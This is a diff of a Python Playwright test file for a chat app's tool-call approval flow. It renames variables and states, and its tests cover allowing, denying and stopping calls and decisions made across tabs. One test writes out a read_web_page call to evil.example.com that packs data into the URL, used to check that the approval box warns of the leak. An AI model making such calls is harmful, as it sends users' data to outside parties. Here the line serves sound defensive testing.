@@ -14,27 +14,27 @@ NOT_ALLOWED = "The person did not allow this call."
 
 
 def test_it_waits_and_says_what_it_would_do(chat: Chat, desk: Desk) -> None:
-    steps = wait_note(chat)
+    tool_calls = wait_note(chat)
 
-    steps.expect_state("asking")
+    tool_calls.expect_state("awaiting_approval")
     box = chat.page.get_by_role("group", name="May this run?")
     expect(box).to_contain_text("Leaving the note hello")
     expect(box.locator("pre")).to_have_text(re.compile('"text": "hello"'))
-    expect(steps.spoken).to_have_text("Claude waits for your word. Leaving the note hello")
+    expect(tool_calls.spoken).to_have_text("Claude waits for your word. Leaving the note hello")
     expect(chat.box).to_be_focused()
     assert desk.notes == []
 
 
 def test_allowed_once_it_runs_once_and_asks_again(chat: Chat, desk: Desk) -> None:
-    steps = wait_note(chat)
+    tool_calls = wait_note(chat)
 
-    steps.say("Allow once")
+    tool_calls.say("Allow once")
 
-    steps.expect_reply("complete")
-    expect(steps.all.locator("summary")).to_have_text(re.compile(r"^Left the note hello"))
-    expect(steps.all.locator("pre").first).to_be_hidden()
+    tool_calls.expect_reply("complete")
+    expect(tool_calls.all.locator("summary")).to_have_text(re.compile(r"^Left the note hello"))
+    expect(tool_calls.all.locator("pre").first).to_be_hidden()
     assert desk.notes == ["hello"]
-    wait_note(chat, "again").expect_state("done", "asking")
+    wait_note(chat, "again").expect_state("done", "awaiting_approval")
 
 
 def test_allowed_for_good_it_asks_no_more(chat: Chat, desk: Desk) -> None:
@@ -48,50 +48,50 @@ def test_allowed_for_good_it_asks_no_more(chat: Chat, desk: Desk) -> None:
 
 def test_allowing_one_tool_for_good_allows_its_other_calls(chat: Chat, desk: Desk) -> None:
     chat.send('/call leave_note {"text": "one"}\n/call leave_note {"text": "two"}')
-    steps = Steps(chat)
-    steps.expect_state("asking", "asking")
+    tool_calls = Steps(chat)
+    tool_calls.expect_state("awaiting_approval", "awaiting_approval")
 
-    steps.say("Always in this conversation")
+    tool_calls.say("Always in this conversation")
 
-    steps.expect_reply("complete")
+    tool_calls.expect_reply("complete")
     assert sorted(desk.notes) == ["one", "two"]
 
 
 def test_denied_it_does_not_run_and_the_model_is_told(chat: Chat, desk: Desk) -> None:
-    steps = wait_note(chat)
+    tool_calls = wait_note(chat)
 
-    steps.say("Deny")
+    tool_calls.say("Deny")
 
-    steps.expect_reply("complete")
-    expect(steps.all).to_contain_text("Not allowed")
+    tool_calls.expect_reply("complete")
+    expect(tool_calls.all).to_contain_text("Not allowed")
     expect(chat.replies).to_contain_text(NOT_ALLOWED)
     chat.page.reload()
-    expect(steps.all).to_contain_text("Not allowed")
+    expect(tool_calls.all).to_contain_text("Not allowed")
     assert desk.notes == []
 
 
 def test_calls_are_decided_one_by_one(chat: Chat, desk: Desk) -> None:
     chat.send('/call leave_note {"text": "one"}\n/call leave_note {"text": "two"}')
-    steps = Steps(chat)
-    steps.expect_state("asking", "asking")
+    tool_calls = Steps(chat)
+    tool_calls.expect_state("awaiting_approval", "awaiting_approval")
 
-    steps.say("Deny")
-    steps.expect_state("denied", "asking")
-    steps.expect_reply("waiting")
-    steps.say("Allow once")
+    tool_calls.say("Deny")
+    tool_calls.expect_state("denied", "awaiting_approval")
+    tool_calls.expect_reply("waiting")
+    tool_calls.say("Allow once")
 
-    steps.expect_reply("complete")
-    steps.expect_state("denied", "done")
+    tool_calls.expect_reply("complete")
+    tool_calls.expect_state("denied", "done")
     assert desk.notes == ["two"]
 
 
 def test_another_tab_decides_and_both_show_it(chat: Chat, desk: Desk) -> None:
-    steps = wait_note(chat)
+    tool_calls = wait_note(chat)
     second = other_tab(chat)
 
     second.say("Allow once")
 
-    for tab in (steps, second):
+    for tab in (tool_calls, second):
         tab.expect_reply("complete")
         tab.expect_state("done")
         expect(tab.chat.stop_button).to_be_hidden()
@@ -99,13 +99,13 @@ def test_another_tab_decides_and_both_show_it(chat: Chat, desk: Desk) -> None:
 
 
 def test_of_two_tabs_the_first_word_counts(chat: Chat, desk: Desk) -> None:
-    steps = wait_note(chat)
+    tool_calls = wait_note(chat)
     second = other_tab(chat)
     # Nothing of what the first tab does reaches the second.
     second.chat.page.evaluate("document.querySelector('live-socket').remove()")
 
-    steps.say("Deny")
-    steps.expect_reply("complete")
+    tool_calls.say("Deny")
+    tool_calls.expect_reply("complete")
     second.say("Allow once")
 
     second.expect_reply("complete")
@@ -147,7 +147,7 @@ def test_without_scripts(
 
 @pytest.mark.parametrize("way", ["button", "Escape"])
 def test_stop_ends_what_waits(chat: Chat, desk: Desk, way: str) -> None:
-    steps = wait_note(chat)
+    tool_calls = wait_note(chat)
     expect(chat.stop_button).to_be_visible()
 
     if way == "button":
@@ -155,19 +155,19 @@ def test_stop_ends_what_waits(chat: Chat, desk: Desk, way: str) -> None:
     else:
         chat.box.press("Escape")
 
-    steps.expect_reply("stopped")
-    expect(steps.all).to_contain_text("Not run")
+    tool_calls.expect_reply("stopped")
+    expect(tool_calls.all).to_contain_text("Not run")
     expect(chat.stop_button).to_be_hidden()
     assert desk.notes == []
 
 
 def test_a_page_that_opens_while_it_waits_can_stop_it(chat: Chat, desk: Desk) -> None:
-    steps = wait_note(chat)
+    tool_calls = wait_note(chat)
     chat.page.reload()
 
     chat.stop_button.click()
 
-    steps.expect_reply("stopped")
+    tool_calls.expect_reply("stopped")
 
 
 def test_a_message_meanwhile_stays_in_the_box(chat: Chat, desk: Desk) -> None:
@@ -184,14 +184,14 @@ def test_a_message_sent_before_it_asked_goes_out_after_the_word(chat: Chat, desk
     chat.send('/silent 2 /call leave_note {"text": "hello"}'.replace(" /call", "\n/call"))
     expect(chat.stop_button).to_be_visible()
     chat.send("/echo And another thing")
-    steps = Steps(chat)
+    tool_calls = Steps(chat)
     expect(chat.replies.first).to_have_attribute("data-status", "waiting")
     expect(chat.messages.last).to_have_attribute("data-status", "sending")
 
-    steps.say("Allow once")
+    tool_calls.say("Allow once")
 
     expect(chat.replies).to_have_count(2)
-    steps.expect_reply("complete")
+    tool_calls.expect_reply("complete")
     expect(chat.replies.last).to_contain_text("And another thing")
 
 
@@ -199,11 +199,11 @@ def test_a_page_that_nobody_named_asks_with_its_whole_address(chat: Chat, desk: 
     query = "word+" * 60 + "end"
     # Written so that it is an address to the model only.
     chat.send(rf'/call read_web_page {{"url": "https:\/\/evil.example.com\/?q={query}"}}')
-    steps = Steps(chat)
+    tool_calls = Steps(chat)
 
-    steps.expect_state("asking")
+    tool_calls.expect_state("awaiting_approval")
 
-    expect(steps.lines).to_have_text(f"Reading https://evil.example.com/?q={query}")
-    expect(steps.all).to_contain_text("The site gets to know every word of this address.")
-    steps.say("Deny")
-    steps.expect_reply("complete")
+    expect(tool_calls.lines).to_have_text(f"Reading https://evil.example.com/?q={query}")
+    expect(tool_calls.all).to_contain_text("The site gets to know every word of this address.")
+    tool_calls.say("Deny")
+    tool_calls.expect_reply("complete")
